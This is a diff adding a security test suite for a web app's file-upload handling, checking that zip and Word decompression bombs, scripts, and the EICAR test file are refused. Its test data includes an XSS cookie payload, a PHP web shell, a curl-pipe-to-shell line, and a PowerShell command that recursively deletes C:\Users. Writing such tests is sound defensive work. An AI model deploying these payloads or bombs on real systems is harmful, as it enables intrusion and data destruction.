@@ -1,0 +1,256 @@
+import { test } from '@japa/runner'
+import db from '@adonisjs/lucid/services/db'
+import PizZip from 'pizzip'
+import Area from '#models/area'
+import { storeGenerated } from '#services/documents/store'
+import { fillDocxBounded, WordError } from '#services/documents/word'
+import { publishForm } from '#services/process/forms'
+import { seedBase } from '#services/seed_service'
+import { makeUser, resetAuthTables, tokenFor } from '#tests/helpers/auth'
+import { areaReviewProcess, resetProcessTables } from '#tests/helpers/process'
+import { WORD_TO_PDF_PER_MINUTE } from '#controllers/documents_controller'
+
+/**
+ * Issue 17, user files that get inflated or parsed: zip and docx bombs refused before anything
+ * unpacks them, the Word fill off the event loop, dev_word_to_pdf rate-limited, active content and
+ * the EICAR test file refused unless the field allows active content (EICAR never).
+ */
+
+type Client = Parameters<typeof tokenFor>[0]
+
+const BASE = () => `http://${process.env.HOST}:${process.env.PORT}`
+const MB = 1024 * 1024
+// Split so this file is not itself taken for the test file by a scanner.
+const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')
+
+/** A Word document whose body is `body` (already XML), deflated as Word does. */
+function docx(body: string): Buffer {
+  const zip = new PizZip()
+  zip.file(
+    '[Content_Types].xml',
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+  )
+  zip.file(
+    '_rels/.rels',
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
+  )
+  zip.file(
+    'word/document.xml',
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`
+  )
+  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' })
+}
+
+const paragraph = (text: string) => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`
+
+let bomb: Buffer | undefined
+/** Issue 17's crafted template: a few tens of KB whose document.xml inflates to 20 MB. */
+const bombDocx = () => (bomb ??= docx(paragraph(`{nombre}${' '.repeat(20 * MB)}`)))
+
+let zeros: Buffer | undefined
+/** A zip of a few KB holding 20 MB of zeros. */
+function zipBomb(): Buffer {
+  const zip = new PizZip()
+  zip.file('zeros.bin', Buffer.alloc(20 * MB))
+  return (zeros ??= zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' }))
+}
+
+/** A genuine template that takes a while to fill: thousands of paragraphs of varied words and tags. */
+function slowDocx(): Buffer {
+  const words = ['solicitud', 'cédula', 'trámite', 'radicado', 'resolución', 'anexo', 'firma', 'folio']
+  let seed = 7
+  const next = () => (seed = (seed * 48271) % 2147483647)
+  const paragraphs: string[] = []
+  for (let i = 0; i < 3000; i++) {
+    const text = Array.from({ length: 12 }, () => `${words[next() % words.length]}${next() % 1000}`).join(' ')
+    paragraphs.push(paragraph(`${text} {nombre} {campo${i % 50}}`))
+  }
+  return docx(paragraphs.join(''))
+}
+
+async function publishFiles() {
+  await seedBase()
+  const area = (await Area.findBy('name', 'Registro')) ?? (await Area.create({ name: 'Registro', color: '#336699' }))
+  return {
+    ...(await publishForm({
+      name: 'Archivos',
+      userId: null,
+      jsonconfig: {
+        form: { pages: [{ name: 'Datos', layout: [['libre', 'activo', 'plantilla']] }] },
+        fields: [
+          { field_name: 'libre', type: 'file', data: { label: { value: 'Cualquier archivo' } } },
+          {
+            field_name: 'activo',
+            type: 'file',
+            data: { label: { value: 'Páginas y scripts' }, allowActiveContent: true },
+          },
+          { field_name: 'plantilla', type: 'file', data: { label: { value: 'Plantilla' }, ext: ['docx', 'zip'] } },
+        ],
+      },
+      process: areaReviewProcess('Archivos', area.id),
+    })),
+    area,
+  }
+}
+
+test.group('untrusted files: bombs, active content, viruses', (group) => {
+  group.each.setup(async () => {
+    await db.from('uploads').delete()
+    await resetProcessTables()
+    await resetAuthTables()
+  })
+
+  function upload(
+    client: Client,
+    token: string,
+    fields: Record<string, string>,
+    file: { name: string; bytes: Buffer }
+  ) {
+    let request = client.post('/data/form/upload/files').header('token', token)
+    for (const [name, value] of Object.entries({
+      case: 'POST',
+      new_version: 'false',
+      foldertype: 'files',
+      ...fields,
+    })) {
+      request = request.field(name, value)
+    }
+    return request.file('file', file.bytes, { filename: file.name })
+  }
+
+  const wordToPdf = (client: Client, token: string, fields: Record<string, string>) => {
+    let request = client.post('/inside/forms/create/search_endpoint/dev_word_to_pdf').header('token', token)
+    for (const [name, value] of Object.entries({ case: 'POST', ...fields })) request = request.field(name, value)
+    return request
+  }
+
+  test('a docx or zip that inflates absurdly is refused at upload, nothing stored', async ({ client, assert }) => {
+    const form = await publishFiles()
+    await makeUser({ username: 'solicitante', role: 'student' })
+    const token = await tokenFor(client, 'solicitante')
+    const bomb = bombDocx()
+    assert.isBelow(bomb.length, 100 * 1024, 'the bomb is small')
+    for (const [field, file] of [
+      ['plantilla', { name: 'carta.docx', bytes: bomb }],
+      ['plantilla', { name: 'ceros.zip', bytes: zipBomb() }],
+      ['libre', { name: 'ceros.zip', bytes: zipBomb() }],
+    ] as const) {
+      const res = await upload(client, token, { data: form.key, field }, file)
+      assert.equal(res.status(), 400, file.name)
+      assert.equal(res.body().status, 'fail')
+      assert.match(res.body().message, /se descomprime en un tamaño desproporcionado/)
+    }
+    const fine = await upload(
+      client,
+      token,
+      { data: form.key, field: 'plantilla' },
+      { name: 'carta.docx', bytes: docx(paragraph('Hola {nombre}')) }
+    )
+    assert.equal(fine.body().status, 'done', fine.body().message)
+    assert.equal(Number((await db.from('uploads').count('* as n').first()).n), 1, 'only the good template stored')
+  })
+
+  test('dev_word_to_pdf refuses a stored docx bomb before filling it', async ({ client, assert }) => {
+    const form = await publishFiles()
+    const user = await makeUser({ username: 'solicitante', role: 'student' })
+    const token = await tokenFor(client, 'solicitante')
+    // Stored as a file that predates the upload check would be: the route checks again itself.
+    const stored = await storeGenerated({
+      bytes: bombDocx(),
+      ext: 'docx',
+      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+      realName: 'carta.docx',
+      folder: 'files',
+      owner: { userId: user.id, taskId: null },
+      formId: form.formId,
+      field: 'plantilla',
+      caseId: null,
+      ip: '127.0.0.1',
+    })
+    const res = await wordToPdf(client, token, { pathdoc: stored.path, datosvalues: '{"nombre":"Ana"}' })
+    assert.equal(res.status(), 413)
+    assert.equal(res.body().status, 'fail')
+    assert.match(res.body().message, /demasiado grande al descomprimirla/)
+    await assert.rejects(() => fillDocxBounded(bombDocx(), {}), WordError)
+  })
+
+  test('the Word fill runs off the event loop: the server answers while a slow fill runs', async ({ assert }) => {
+    const template = slowDocx()
+    let filling = true
+    const fill = fillDocxBounded(template, { nombre: 'Ana' }).finally(() => (filling = false))
+    const health = await fetch(`${BASE()}/health`)
+    assert.isTrue(filling, 'the health check was answered while the template was being filled')
+    assert.include([200, 503], health.status)
+    const filled = new PizZip(await fill)
+    assert.include(filled.file('word/document.xml')!.asText(), ' Ana ')
+  })
+
+  test('dev_word_to_pdf answers 429 with a reason past its rate', async ({ client, assert }) => {
+    await publishFiles()
+    await makeUser({ username: 'solicitante', role: 'student' })
+    const token = await tokenFor(client, 'solicitante')
+    for (let i = 0; i < WORD_TO_PDF_PER_MINUTE; i++) {
+      const res = await wordToPdf(client, token, { pathdoc: 'nada' })
+      assert.equal(res.status(), 400, `call ${i + 1} is only refused for its bad path`)
+    }
+    const res = await wordToPdf(client, token, { pathdoc: 'nada' })
+    assert.equal(res.status(), 429)
+    assert.equal(res.body().status, 'fail')
+    assert.match(res.body().message, /Demasiadas solicitudes/)
+    assert.isAbove(Number(res.header('retry-after')), 0)
+  })
+
+  const active: [string, string][] = [
+    ['pagina.html', '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>'],
+    ['logo.svg', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    ['shell.php', '<?php system($_GET["c"]); ?>'],
+    ['instalar.sh', '#!/bin/sh\ncurl http://example.invalid | sh\n'],
+    ['limpiar.ps1', 'Remove-Item -Recurse -Force C:\\Users\n'],
+    // Renamed: refused for what its first bytes are.
+    ['notas.txt', '<?php echo "hola"; ?>'],
+    ['imagen', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
+  ]
+
+  test('active content is refused on a field without an extension list', async ({ client, assert }) => {
+    const form = await publishFiles()
+    await makeUser({ username: 'solicitante', role: 'student' })
+    const token = await tokenFor(client, 'solicitante')
+    for (const [name, text] of active) {
+      const res = await upload(client, token, { data: form.key, field: 'libre' }, { name, bytes: Buffer.from(text) })
+      assert.equal(res.status(), 400, name)
+      assert.equal(res.body().status, 'fail', name)
+      assert.match(res.body().message, /contenido activo/, name)
+    }
+    const plain = await upload(
+      client,
+      token,
+      { data: form.key, field: 'libre' },
+      { name: 'notas.txt', bytes: Buffer.from('hola') }
+    )
+    assert.equal(plain.body().status, 'done', plain.body().message)
+    assert.equal(Number((await db.from('uploads').count('* as n').first()).n), 1)
+  })
+
+  test('a field that allows active content takes it; the EICAR file is refused everywhere', async ({
+    client,
+    assert,
+  }) => {
+    const form = await publishFiles()
+    await makeUser({ username: 'solicitante', role: 'student' })
+    const token = await tokenFor(client, 'solicitante')
+    for (const [name, text] of active) {
+      const res = await upload(client, token, { data: form.key, field: 'activo' }, { name, bytes: Buffer.from(text) })
+      assert.equal(res.body().status, 'done', `${name}: ${res.body().message}`)
+    }
+    for (const field of ['libre', 'activo']) {
+      const res = await upload(
+        client,
+        token,
+        { data: form.key, field },
+        { name: 'eicar.txt', bytes: Buffer.concat([EICAR, Buffer.from('\r\n')]) }
+      )
+      assert.equal(res.status(), 400, field)
+      assert.match(res.body().message, /contiene un virus \(Eicar-Test-Signature\)/, field)
+    }
+  })
+})
